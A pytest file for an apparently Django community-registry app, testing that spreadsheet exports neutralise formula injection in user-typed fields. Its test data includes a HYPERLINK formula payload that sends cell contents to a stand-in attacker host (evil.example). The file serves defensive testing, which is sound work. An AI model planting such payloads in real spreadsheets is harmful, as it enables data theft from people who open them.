"""Formula injection (issue 15, item 6): no text a user typed runs as a formula in any .xlsx we
give out. Each export gets text starting with = + - @ and a tab in the fields users fill in,
and the file read back with openpyxl holds it as a plain string with Excel's quote prefix."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from accounts.selectors import actor_for_user
from core.spreadsheets import is_risky_text, new_workbook, workbook_bytes
from health.models import SweepCampaign
from people.models import Resident
from people.registry_import import rejects, services
from people.registry_import.template import build_template
from people.registry_import.xlsx import COLUMNS
from places.models import Place
from reports import services as daily
from reports.export import daily_report_export
from testkit import TinyCity

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
RISKY = [HYPERLINK, "+1", "-1+2", "@SUM(A1:A2)", "\t=1"]


def _rename(place: Place, name: str) -> None:
    """Places are renamed one at a time (their subtree's sort keys follow)."""
    place.refresh_from_db()
    place.name = name
    place.save()


def _client(tc: TinyCity, role: str) -> Client:
    client = Client()
    client.cookies["django_language"] = "en"
    client.force_login(tc.users[role])
    return client


def _body(response: Any) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


def assert_inert(content: bytes, typed: list[str]) -> None:
    """No cell of any sheet is a formula; every risky text cell is a quoted string; and each
    typed value is there as typed."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert not re.search(r"<f[ >]", xml), f"{name} holds a formula"
                assert 't="e"' not in xml, f"{name} holds an error value"
    wb = load_workbook(io.BytesIO(content))
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    seen.add(cell.value)
                    if is_risky_text(cell.value):
                        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    for value in typed:
        assert any(value in text for text in seen), f"{value!r} is not in the file"


def test_the_writer_keeps_text_as_typed_and_numbers_as_numbers() -> None:
    for write_only in (False, True):
        wb = new_workbook(write_only=write_only)
        ws = wb.create_sheet("t") if write_only else wb.active
        assert ws is not None
        ws.append([*RISKY, -3, 2.5, "#N/A", "plain"])
        content = workbook_bytes(wb)
        assert_inert(content, RISKY)
        cells = next(load_workbook(io.BytesIO(content)).worksheets[-1].iter_rows())
        assert [c.value for c in cells[5:7]] == [-3, 2.5]
        assert [c.data_type for c in cells[5:7]] == ["n", "n"]
        assert cells[7].value == "#N/A"  # a string in the file (assert_inert), not an error
        assert cells[8].value == "plain" and not cells[8].quotePrefix


def test_registry_export_masked_and_full(tiny_city: TinyCity) -> None:
    residents = tiny_city.inside.residents
    Resident.objects.filter(pk=residents[0].pk).update(care_note=HYPERLINK, status_note="+1")
    Resident.objects.filter(pk=residents[1].pk).update(care_note="-1+2", status_note="@SUM(A1)")
    _rename(tiny_city.inside.building, "\t=1")
    masked = _client(tiny_city, "grid_worker").post("/registry/export/")
    assert masked.status_code == 200
    assert_inert(_body(masked), [HYPERLINK, "+1", "-1+2", "@SUM(A1)", "\t=1"])
    full = _client(tiny_city, "community_admin").post(
        "/registry/export/", {"full": "on", "reason": "核对名单"}
    )
    assert full.status_code == 200
    assert_inert(_body(full), [HYPERLINK, "+1", "-1+2", "@SUM(A1)", "\t=1"])


def test_daily_report_and_rollup_exports(tiny_city: TinyCity) -> None:
    community = tiny_city.inside.community
    admin = actor_for_user(tiny_city.users["community_admin"])
    report = daily.daily_report_generate(actor=admin, community=community)
    report.note = HYPERLINK
    report.save(update_fields=["note"])
    assert_inert(daily_report_export(report).file.read(), [HYPERLINK])
    _rename(community, "@SUM(A1)")
    _rename(tiny_city.inside.street, "-1+2")
    street = _client(tiny_city, "street_admin")
    response = street.get(f"/daily/places/{tiny_city.inside.street.pk}/export.xlsx")
    assert response.status_code == 200
    assert_inert(_body(response), ["@SUM(A1)", "-1+2"])
    district = _client(tiny_city, "district_admin")
    response = district.get(f"/daily/places/{tiny_city.inside.district.pk}/export.xlsx")
    assert response.status_code == 200
    assert_inert(_body(response), ["-1+2"])


def test_sweep_export(tiny_city: TinyCity) -> None:
    sweep = SweepCampaign.objects.get(name="甲区拉网排查")
    SweepCampaign.objects.filter(pk=sweep.pk).update(name=HYPERLINK)
    _rename(tiny_city.inside.street, "+1")
    response = _client(tiny_city, "district_admin").get(f"/sweeps/{sweep.pk}/export.xlsx")
    assert response.status_code == 200
    assert_inert(_body(response), [HYPERLINK, "+1"])


def test_import_template(tiny_city: TinyCity) -> None:
    """The template lists the community's building names (its example row and dropdown)."""
    _rename(tiny_city.inside.building, HYPERLINK)
    response = _client(tiny_city, "community_admin").get(
        f"/registry/imports/template/?community={tiny_city.inside.community.pk}"
    )
    assert response.status_code == 200
    assert_inert(_body(response), [HYPERLINK])
    assert_inert(build_template(["-1栋", "@2栋"]), ["-1栋", "@2栋"])


def test_rejected_rows_given_back(tiny_city: TinyCity) -> None:
    """The rejected rows echo what the uploader typed: a sheet whose cells hold formula text."""
    wb = new_workbook()
    ws = wb.active
    assert ws is not None
    ws.append(COLUMNS[i].header for i in range(len(COLUMNS)))
    note = COLUMNS[-1].header
    assert note == "备注"
    base = ["1栋", "1单元101"]
    ws.append([*base, HYPERLINK, "", "", "", "", "", "", "", "", "", "+1"])
    ws.append([*base, "王五", "-1+2", "@SUM(A1)", "", "", "", "", "", "", "", "\t=1"])
    upload = workbook_bytes(wb)
    admin = actor_for_user(tiny_city.users["community_admin"])
    ri = services.import_preview(
        actor=admin, community=tiny_city.inside.community, file_name="x.xlsx", content=upload
    )
    assert ri.rejected_count == 2
    typed = [HYPERLINK, "+1", "-1+2", "@SUM(A1)", "\t=1"]
    assert_inert(rejects.import_rejected_export(actor=admin, registry_import=ri), typed)
    street = actor_for_user(tiny_city.users["street_admin"])  # masked copy
    assert_inert(
        rejects.import_rejected_export(actor=street, registry_import=ri), [HYPERLINK, "+1"]
    )


# ---- the house rule --------------------------------------------------------------------------

ROOT = Path(__file__).resolve().parents[2]
WORKBOOK = re.compile(r"\bWorkbook\(|from openpyxl import[^\n]*\bWorkbook\b|csv\.writer|DictWriter")
# Tests and benchmarks build the files users upload; they give nothing out.
NOT_EXPORTS = {"tests", "e2e", "bench", ".venv"}


def test_every_workbook_is_made_by_the_shared_writer() -> None:
    modules = [
        p
        for p in ROOT.rglob("*.py")
        if not NOT_EXPORTS & set(p.relative_to(ROOT).parts) and p.name != "spreadsheets.py"
    ]
    assert len(modules) > 100, "the rule must look at the project's modules"
    offenders = [
        f"{p.relative_to(ROOT)}:{n}: {line.strip()}"
        for p in modules
        for n, line in enumerate(p.read_text().splitlines(), 1)
        if WORKBOOK.search(line)
    ]
    assert not offenders, "use core.spreadsheets.new_workbook:\n" + "\n".join(offenders)


def test_the_rule_catches_a_workbook() -> None:
    assert WORKBOOK.search("    wb = Workbook(write_only=True)")
    assert WORKBOOK.search("from openpyxl import Workbook, load_workbook")
    assert WORKBOOK.search("writer = csv.writer(out)")
    assert not WORKBOOK.search("wb = new_workbook(write_only=True)")
    assert not WORKBOOK.search("from openpyxl import load_workbook")
